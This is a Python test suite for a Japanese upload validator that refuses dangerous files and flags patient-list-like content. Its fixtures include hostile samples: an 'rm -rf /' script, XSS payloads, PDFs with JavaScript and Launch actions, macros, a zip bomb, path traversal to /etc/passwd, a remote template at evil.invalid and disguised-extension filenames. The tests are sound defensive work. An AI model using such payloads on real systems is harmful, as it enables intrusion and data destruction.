"""What may be kept as a file of a case: by its content, whatever it is called; and what looks like patients' data."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
import typst
from hypothesis import given
from hypothesis import strategies as st
from pylopdf_fonts_jp import sans_path

from cases.casework.files.content import LARGEST, look_at, safe_name
from cases.casework.files.personal_data import UNREADABLE, suspicion
from cases.errors import FileRefused
from ui.texts import FILE_REASONS, sentence

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
JPG = b"\xff\xd8\xff\xe0" + b"\x00" * 64


def xlsx(*rows: tuple[object, ...]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def packed(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        for name, content in parts.items():
            pack.writestr(name, content)
    return out.getvalue()


TYPES = b'<?xml version="1.0"?><Types/>'


def docx(text: str = "状況", **more: bytes) -> bytes:
    body = f"<w:document><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": body.encode(), **more})


GOOD = {
    "報道発表.pdf": PDF,
    "画面.png": PNG,
    "写真.JPG": JPG,
    "経過.txt": "10月31日 停止".encode(),
    "一覧.csv": "システム,状態\n電子カルテ,停止".encode("cp932"),
    "表.xlsx": xlsx(("システム", "状態"), ("電子カルテ", "停止")),
    "報告.docx": docx(),
}


@pytest.mark.parametrize("name", GOOD)
def test_受け付ける種類(name: str) -> None:
    found = look_at(name, GOOD[name])
    assert (found.name, found.size) == (name, len(GOOD[name]))


BOMB = docx(**{"word/big.xml": b"0" * 150_000_000})
BAD: dict[str, tuple[str, bytes, str]] = {
    "空": ("a.txt", b"", "empty"),
    "大きすぎる": ("a.txt", b"a" * (LARGEST + 1), "too_large"),
    "実行ファイル": ("setup.exe", b"MZ\x90", "kind"),
    "名前だけ文書の実行ファイル": ("a.pdf", b"MZ\x90\x00", "mismatch"),
    "名前だけ文字の実行ファイル": ("a.txt", b"MZ\x90 this program", "mismatch"),
    "Linuxの実行ファイル": ("a.csv", b"\x7fELF\x02\x01\x01", "mismatch"),
    "命令書": ("a.txt", b"#!/bin/sh\nrm -rf /", "mismatch"),
    "ウェブページ": ("a.html", b"<html></html>", "kind"),
    "文字の名をしたウェブページ": ("a.txt", b"  <HTML><body onload=x>", "html"),
    "文字の名をした絵の命令": ("a.csv", b"a,b\n<svg onload=alert(1)>", "html"),
    "文字の中の命令": ("a.txt", "説明 <script>alert(1)</script>".encode(), "html"),
    "SVG": ("a.svg", b"<svg/>", "kind"),
    "名前だけ画像": ("a.png", PDF, "mismatch"),
    "圧縮が付いたPDF": ("a.pdf", PDF + packed({"x": b"y"}), "polyglot"),
    "圧縮が付いた画像": ("a.png", PNG + packed({"x": b"y"}), "polyglot"),
    "命令の付いた画像": ("a.jpg", JPG + b"<script>alert(1)</script>", "polyglot"),
    "動くPDF": ("a.pdf", PDF + b"<</S/JavaScript/JS(app.alert)>>", "active"),
    "起動するPDF": ("a.pdf", PDF + b"<</S/Launch>>", "active"),
    "展開すると巨大": ("a.docx", BOMB, "zip_bomb"),
    "部品が多すぎる": ("a.docx", docx(**{f"word/p{n}.xml": b"" for n in range(2100)}), "zip_bomb"),
    "マクロ": ("a.docx", docx(**{"word/vbaProject.bin": b"x"}), "active"),
    "マクロの種類": (
        "a.xlsx",
        packed({"[Content_Types].xml": b"macroEnabled", "xl/workbook.xml": b"<workbook/>"}),
        "active",
    ),
    "埋め込み": ("a.docx", docx(**{"word/embeddings/oleObject1.bin": b"x"}), "active"),
    "外から取り込むひな形": (
        "a.docx",
        docx(
            **{
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil.invalid/t.dotm" TargetMode="External"/>'
            }
        ),
        "active",
    ),
    "上の階層へ出る部品": ("a.docx", docx(**{"../../etc/passwd": b"x"}), "active"),
    "ただの圧縮": ("a.docx", packed({"readme.txt": b"x"}), "mismatch"),
    "壊れた圧縮": ("a.xlsx", b"PK\x03\x04" + b"\x00" * 40, "mismatch"),
    "メール": ("a.eml", b"From: a", "kind"),
    "拡張子なし": ("pdf", PDF, "kind"),
    "二重の拡張子": ("a.pdf.exe", PDF, "kind"),
    "空文字の混ざる文字": ("a.txt", b"a\x00b", "mismatch"),
    "読めない文字": ("a.txt", b"\xff\xff\xff\x81", "mismatch"),
}


@pytest.mark.parametrize("case", BAD)
def test_受け付けない資料と理由(case: str) -> None:
    name, content, reason = BAD[case]
    with pytest.raises(FileRefused) as caught:
        look_at(name, content)
    assert caught.value.reason == reason
    assert sentence(caught.value).endswith("。")


def test_断る理由にはどれも文がある() -> None:
    assert {reason for _, _, reason in BAD.values()} <= set(FILE_REASONS)


def test_ただのリンクは外への参照に数えない() -> None:
    rels = b'<Relationship Type="http://x/hyperlink" Target="https://a.example/" TargetMode="External"/>'
    assert look_at("a.docx", docx(**{"word/_rels/document.xml.rels": rels})).text


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\x\\表.xlsx", "表.xlsx"),
        ("a\u202egpj.exe", "agpj.exe"),
        ("改\r\nSet-Cookie: x.pdf", "改Set-Cookie x.pdf"),
        ('a"b<c>.pdf', "abc.pdf"),
        ("...", "名称なし"),
        ("", "名称なし"),
        ("あ" * 500 + ".pdf", "あ" * 110 + ".pdf"),
    ],
)
def test_名前は道筋も制御文字も失う(given: str, kept: str) -> None:
    assert safe_name(given) == kept


@given(st.text(max_size=300))
def test_どんな名前も無害で短い(name: str) -> None:
    kept = safe_name(name)
    assert 0 < len(kept) <= 120
    assert not set(kept) & set('/\\\r\n\x00"<>')


@given(st.binary(max_size=400), st.sampled_from(sorted(["a.pdf", "a.png", "a.txt", "a.csv", "a.xlsx", "a.docx"])))
def test_どんな中身も受け付けるか断るかのどちらかである(content: bytes, name: str) -> None:
    try:
        found = look_at(name, content)
    except FileRefused as refused:
        reason = refused.reason
    else:
        assert found.size == len(content)
        return
    assert reason in FILE_REASONS


PATIENTS = {
    "患者一覧.csv": "氏名,生年月日,カルテ番号\n架空 太郎,昭和30年1月2日,123".encode(),
    "一覧.txt": "患者番号\t病名\n1\t骨折".encode("cp932"),
    "名簿.xlsx": xlsx(("患者氏名", "保険者番号"), ("架空", 1)),
    "名簿.docx": docx("氏名,住所,性別"),
    "見出しのない名簿.csv": "\n".join(f"架空 花子,19{n}0/1/2,外来" for n in range(2, 8)).encode(),
}
HARMLESS = {
    "件数.csv": "区分,件数\n入院患者,120\n外来患者,340".encode(),
    "経過.txt": "電子カルテが停止し、新規の外来を止めた。患者への影響を確認中。".encode(),
    "機器.xlsx": xlsx(("サーバ名", "状態", "復旧日"), ("架空", "停止", "2021/11/5")),
}


@pytest.mark.parametrize("name", PATIENTS)
def test_患者の一覧のような資料には警告する(name: str) -> None:
    assert suspicion(look_at(name, PATIENTS[name]).text)


@pytest.mark.parametrize("name", HARMLESS)
def test_件数や経過には警告しない(name: str) -> None:
    assert suspicion(look_at(name, HARMLESS[name]).text) == ""


def test_中身を確かめられない資料は人が確かめる() -> None:
    assert suspicion(look_at("a.pdf", PDF).text) == UNREADABLE


# -- what people really send ---------------------------------------------------------------------------------------


def pdf(*pages: str) -> bytes:
    """A PDF as the house's own papers are made, one page of text each; an empty one is like a scan."""
    source = '#set text(font: "Noto Sans JP")\n' + "\n#pagebreak()\n".join(pages)
    return bytes(typst.compile(source.encode(), font_paths=[sans_path().parent], ignore_system_fonts=True))


ROWS = [
    f"架空 {name},昭和{n}年{n % 12 + 1}月2日,{10_000 + n}"
    for n, name in enumerate(["太郎", "花子", "次郎"] * 40, start=1)
]
SENT = {
    "外来一覧.csv（見出しの字間が空いている）": (
        "外来一覧.csv",
        "\n".join(["氏 名,生 年 月 日,番号", *ROWS]).encode("cp932"),
    ),
    "電子カルテの書き出し.csv（英語の見出し）": ("export.csv", b"patient_id,visit\n1,2021-10-30\n2,2021-10-30"),
    "保険証の控え.txt": ("控え.txt", "保険証番号\t記号番号\n12345678\t1-2".encode()),
    "患者の表が二枚目にある.xlsx": ("報告.xlsx", None),
    "影響を受けた患者.docx": ("患者.docx", docx("患者氏名,生年月日")),
    "影響を受けた患者.pdf": ("患者.pdf", None),
}
"""What seems to hold a list of patients (R-235)."""


def second_sheet() -> bytes:
    book = openpyxl.Workbook()
    first, second = book.active, book.create_sheet("内訳")
    assert first is not None
    first.append(("システム", "状態"))
    second.append(("フリガナ", "生年月日"))
    for n in range(200):
        second.append((f"カクウ{n}", f"19{n % 90 + 10}/1/2"))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.requirement("R-235")
@pytest.mark.parametrize("case", SENT)
def test_患者の一覧らしい資料は_どの形でも見付けて_どこがそうかを言う(case: str) -> None:
    name, content = SENT[case]
    if content is None:
        table = "#table(columns: 3, [患者氏名], [生年月日], [病名], [架空 太郎], [昭和30年1月2日], [骨折])"
        content = pdf("被害の概要", table) if name.endswith("pdf") else second_sheet()
    told = suspicion(look_at(name, content).text)
    assert told.startswith("患者の個人情報を並べた表のように見えます（見出し「"), told
    if name in ("外来一覧.csv", "報告.xlsx"):
        assert f"続く行 {120 if name == '外来一覧.csv' else 200}行" in told


def test_文字の読めるPDFは人の確認を求めず_読めない頁があれば求める() -> None:
    assert suspicion(look_at("発表.pdf", pdf("電子カルテが停止した。復旧を進めている。")).text) == ""
    assert suspicion(look_at("写し.pdf", pdf("一枚目の説明", "#rect(width: 50%)")).text) == UNREADABLE


REFUSED = {
    "二重の拡張子で文書に見せた実行形式": ("請求書.exe.pdf", PDF, "disguised"),
    "空白を挟んだ二重の拡張子": ("写真.scr  .png", PNG, "disguised"),
    "向きを変える記号": ("報告\u202efdp.xlsx", xlsx(("a",)), "disguised"),
    "マクロ付きの表": ("集計.xlsm", xlsx(("a",)), "macro"),
    "マクロ付きの文書": ("様式.docm", docx(), "macro"),
    "古い表": ("集計.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old"),
    "名前だけ新しい古い表": ("集計.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old"),
    "パスワードの付いた表": (
        "集計.xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600 + "EncryptedPackage".encode("utf-16-le"),
        "locked",
    ),
    "パスワードの付いたPDF": ("報告.pdf", PDF + b"trailer<</Encrypt 5 0 R>>", "locked"),
    "圧縮": ("記録.zip", packed({"setup.exe": b"MZ"}), "archive"),
    "圧縮に入れた実行形式を表に見せた": (
        "集計.xlsx",
        packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<w/>", "setup.exe": b"MZ"}),
        "active",
    ),
    "ディスクの写し": ("資料.iso", b"CD001", "archive"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_よくある危ない資料は_理由と次の手とともに断る(case: str) -> None:
    name, content, reason = REFUSED[case]
    with pytest.raises(FileRefused) as caught:
        look_at(name, content)
    assert caught.value.reason == reason
    assert "ください。" in sentence(caught.value)


@pytest.mark.parametrize("name", ["ver.1.2.pdf", "2021.10.31報告.pdf", "会社.com宛て.pdf", "様式.docx.pdf"])
def test_点のある名前は断らない(name: str) -> None:
    assert look_at(name, PDF).name == name
